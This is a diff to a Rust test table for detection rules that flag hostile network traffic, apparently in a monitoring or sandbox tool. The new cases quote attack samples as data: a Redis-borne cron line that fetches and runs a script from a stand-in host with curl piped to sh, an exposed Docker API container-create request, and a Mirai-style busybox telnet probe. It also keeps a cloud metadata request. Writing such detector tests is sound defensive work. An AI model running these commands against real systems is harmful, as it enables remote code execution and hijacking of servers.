@@ -95,6 +95,20 @@ fn each_rule_sees_what_it_is_for_and_nothing_else() {
     let table: &[Case] = &[
         ("nothing", quiet(), &[]),
         ("the cloud's passwords", network("http", "169.254.169.254:80", "GET /latest/", ""), &[("asks-cloud", 4)]),
+        (
+            "a container elsewhere",
+            network("http", "198.51.100.7:2375", "POST /containers/create?name=k", "a.example"),
+            &[("abuses-services", 6)],
+        ),
+        (
+            "a cron line in a database",
+            network("talk", "198.18.1.2:6379", "*/1 * * * * curl -s http://a.example/x | sh", "a.example"),
+            &[("abuses-services", 6)],
+        ),
+        ("a box", network("talk", "198.18.1.2:23", "/bin/busybox MIRAI", "a.example"), &[("abuses-services", 6)]),
+        ("a letter about cron", network("talk", "198.18.1.2:25", "see /etc/cron.d/backup", "a.example"), &[]),
+        ("a list of containers", network("http", "198.18.1.2:80", "GET /containers/create", "a.example"), &[]),
+        ("a script is handed in", network("http", "198.18.1.2:80", "POST /paste #!/bin/sh", "a.example"), &[]),
         ("the whole wire", acts("sniffs", "all packets"), &[("sniffs", 5)]),
         (
             "a text in a name",
